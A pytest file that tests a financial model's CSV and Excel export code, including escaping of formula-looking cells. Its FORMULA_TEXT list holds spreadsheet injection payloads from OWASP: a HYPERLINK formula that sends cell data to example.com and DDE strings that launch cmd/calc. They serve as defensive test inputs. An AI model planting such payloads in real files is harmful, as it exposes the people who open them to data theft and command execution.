"""Exports: clean CSV, a workbook with a sheet per table, nothing a spreadsheet would run."""

from __future__ import annotations

import io
from datetime import date, datetime
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from model.export.files import ExportError, write_tables
from model.export.tables import csv_bytes, safe_cell, scenario_frame, sheet_name, text_cell
from model.scenario import Scenario

# Payloads from the OWASP "CSV Injection" page, plus the short forms a spreadsheet also runs.
FORMULA_TEXT = [
    '=HYPERLINK("http://example.com/?x="&A1,"Error: click")',
    "=1+1",
    "+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def figures() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "year": [2024, 2025, 2026],
            "amount_usd_bn": [0.1 + 0.2, -1.5, 1234567.891],
            "rate": [0.2, 0.125, None],
            "counterparty": ["Azure", "Oracle", "CoreWeave, Inc."],
            "counted": [True, False, True],
            "as_of": [date(2023, 1, 23), date(2025, 9, 30), date(2026, 3, 31)],
        }
    )


def sources_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "topic": ["Investment", "Equity"],
            "record": ["t2019", "q1fy26"],
            "value": ["1.0", "-3.1"],
            "source": ["@SUM(A1)", "Microsoft 10-Q"],
            "derived": [False, True],
        }
    )


@pytest.mark.parametrize("text", FORMULA_TEXT)
def test_safe_cell_quotes_formula_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, 0, -7, 3.25, True, None, "Oracle", "-3.1", "-0.41", "a=b", "x-1"])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) == value


def test_csv_round_trips_through_pandas_with_equal_figures():
    original = figures()
    back = pd.read_csv(io.BytesIO(csv_bytes(original)), parse_dates=["as_of"])
    assert list(back.columns) == list(original.columns)
    expected = original.assign(as_of=pd.to_datetime(original["as_of"]))
    pd.testing.assert_frame_equal(back, expected, check_dtype=False, check_exact=False, rtol=1e-11)


def test_csv_layout():
    text = csv_bytes(figures()).decode("utf-8")
    lines = text.split("\n")
    assert lines[0] == "year,amount_usd_bn,rate,counterparty,counted,as_of"
    # 0.1 + 0.2 is 0.30000000000000004 in float64: the noise must not reach the file; no
    # thousands separators; booleans as TRUE/FALSE; ISO dates; missing values empty.
    assert lines[1] == "2024,0.3,0.2,Azure,TRUE,2023-01-23"
    assert lines[2] == "2025,-1.5,0.125,Oracle,FALSE,2025-09-30"
    assert lines[3] == '2026,1234567.891,,"CoreWeave, Inc.",TRUE,2026-03-31'
    assert text.endswith("\n") and "\r" not in text and len(lines) == 5
    assert not text.startswith("\ufeff")


def test_csv_drops_a_plain_index_and_keeps_a_named_one():
    plain = pd.DataFrame({"amount_usd_bn": [1.0]}, index=[7])
    assert csv_bytes(plain).decode() == "amount_usd_bn\n1\n"
    named = pd.DataFrame({"amount_usd_bn": [1.0]}, index=pd.Index([2030], name="year"))
    assert csv_bytes(named).decode() == "year,amount_usd_bn\n2030,1\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (datetime(2026, 9, 28), "2026-09-28"),
        (pd.Timestamp("2026-09-28 14:30"), "2026-09-28T14:30:00"),
        (float("nan"), ""),
        (pd.NA, ""),
        (-0.0, "0"),
        (2.0, "2"),
        (1e-7, "1e-07"),
        (7_433_000_000.0, "7433000000"),
        (float("inf"), "inf"),
    ],
)
def test_text_cell(value, text):
    assert text_cell(value) == text


def test_formula_text_is_neutralised_in_csv_while_numbers_stay_numbers():
    df = pd.DataFrame({"note": FORMULA_TEXT, "amount_usd_bn": [-1.5] * len(FORMULA_TEXT)})
    back = pd.read_csv(io.BytesIO(csv_bytes(df)), keep_default_na=False)
    assert back["note"].tolist() == ["'" + text for text in FORMULA_TEXT]
    assert back["amount_usd_bn"].tolist() == [-1.5] * len(FORMULA_TEXT)
    assert back["amount_usd_bn"].dtype == "float64"


def test_formula_looking_header_is_neutralised():
    assert csv_bytes(pd.DataFrame({"=cmd": [1]})).decode() == "'=cmd\n1\n"


def test_scenario_frame_values():
    frame = scenario_frame(Scenario(horizon_year=2040))
    row = frame.set_index("name").loc["horizon_year"]
    assert row["value"] == 2040 and row["default"] == 2035 and row["unit"] == "year"


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("investment_funding", [], "investment_funding"),
        ("a/b\\c[d]:e*f?g", [], "a_b_c_d__e_f_g"),
        ("x" * 40, [], "x" * 31),
        ("summary", ["Summary"], "summary_2"),
        ("x" * 40, ["x" * 31], "x" * 29 + "_2"),
        ("History", [], "History_"),
        ("'quoted'", [], "quoted"),
    ],
)
def test_sheet_name(name, taken, expected):
    assert sheet_name(name, taken) == expected


def fake_result() -> SimpleNamespace:
    return SimpleNamespace(tables={"summary": figures(), "msft_by_year": figures()})


def test_write_tables_csv_writes_a_folder(tmp_path):
    out = tmp_path / "out"
    written = write_tables(fake_result().tables, Scenario(), sources_frame(), out, "csv")
    names = sorted(path.name for path in out.iterdir())
    assert names == ["msft_by_year.csv", "scenario.csv", "sources.csv", "summary.csv"]
    assert sorted(path.name for path in written) == names
    assert (out / "summary.csv").read_bytes() == csv_bytes(figures())
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging folder left behind


def test_write_tables_csv_into_an_existing_folder_keeps_other_files(tmp_path):
    (tmp_path / "notes.txt").write_text("mine")
    (tmp_path / "summary.csv").write_text("old")
    write_tables(fake_result().tables, Scenario(), sources_frame(), tmp_path, "csv")
    assert (tmp_path / "notes.txt").read_text() == "mine"
    assert (tmp_path / "summary.csv").read_bytes() == csv_bytes(figures())
    assert not list(tmp_path.glob(".*.tmp"))


def test_write_tables_xlsx(tmp_path):
    out = tmp_path / "sub" / "model.xlsx"
    assert write_tables(fake_result().tables, Scenario(), sources_frame(), out, "xlsx") == [out]
    sheets = openpyxl.load_workbook(io.BytesIO(out.read_bytes())).sheetnames
    assert sheets == ["cover", "summary", "msft_by_year", "scenario", "sources"]
    assert [p.name for p in out.parent.iterdir()] == ["model.xlsx"]


def test_write_tables_writes_nothing_when_a_table_cannot_be_rendered(tmp_path):
    class Unprintable:
        def __str__(self):
            raise RuntimeError("cannot render")

    result = SimpleNamespace(tables={"summary": figures(), "broken": pd.DataFrame({"x": [Unprintable()]})})
    for fmt, out in (("csv", tmp_path / "out"), ("xlsx", tmp_path / "model.xlsx")):
        with pytest.raises(RuntimeError):
            write_tables(result.tables, Scenario(), sources_frame(), out, fmt)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("fmt", "make"), [("csv", "file"), ("xlsx", "folder")])
def test_write_tables_refuses_the_wrong_kind_of_path(tmp_path, fmt, make):
    out = tmp_path / "target"
    out.write_text("keep") if make == "file" else out.mkdir()
    with pytest.raises(ExportError):
        write_tables(fake_result().tables, Scenario(), sources_frame(), out, fmt)
    assert [p.name for p in tmp_path.iterdir()] == ["target"]


def test_line_breaks_inside_text_stay_inside_their_record():
    df = pd.DataFrame({"note": ["a\rb", "c\nd", 'say "x", then y', "plain"], "x": [1, 2, 3, 4]})
    back = pd.read_csv(io.BytesIO(csv_bytes(df)))
    pd.testing.assert_frame_equal(back, df, check_dtype=False)
